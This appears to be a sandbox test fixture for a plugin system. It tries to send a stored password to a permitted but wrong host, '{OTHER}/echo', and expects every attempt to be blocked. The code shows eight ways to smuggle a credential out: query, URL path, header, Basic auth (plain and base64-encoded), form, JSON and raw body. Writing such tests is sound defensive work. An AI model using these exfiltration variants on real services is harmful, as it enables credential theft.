// Tries: to send the password to a host that is granted, but is not the one that it is for.
// Keeps: the call is refused before it leaves.
// Hosts: {HOLDER} {OTHER}
// Variant: query
// Variant: path
// Variant: header
// Variant: basic
// Variant: encoded
// Variant: form
// Variant: json
// Variant: body
// Outcome: PluginFault
// Ledger: secret
// Requests: 0
exports.sync = function (hub) {
    var at = "http://{OTHER}/echo";
    switch (hub.settings.variant) {
        case "query": hub.http.get(at, { query: { p: "{{password}}" } }); break;
        case "path": hub.http.get(at + "/%7b%7bpassword%7d%7d"); break;
        case "header": hub.http.get(at, { headers: { "X-P": "a{{password}}b" } }); break;
        case "basic": hub.http.get(at, { headers: { Authorization: "Basic me:{{password}}" } }); break;
        case "encoded": hub.http.get(at, { headers: { Authorization: "Basic bWU6e3twYXNzd29yZH19" } }); break;
        case "form": hub.http.post(at, { form: { p: "{{password}}" } }); break;
        case "json": hub.http.post(at, { json: { a: [{ p: "x{{password}}" }] } }); break;
        default: hub.http.post(at, { body: "%7B%7Bpassword%7D%7D" });
    }
    hub.log("broke out");
};
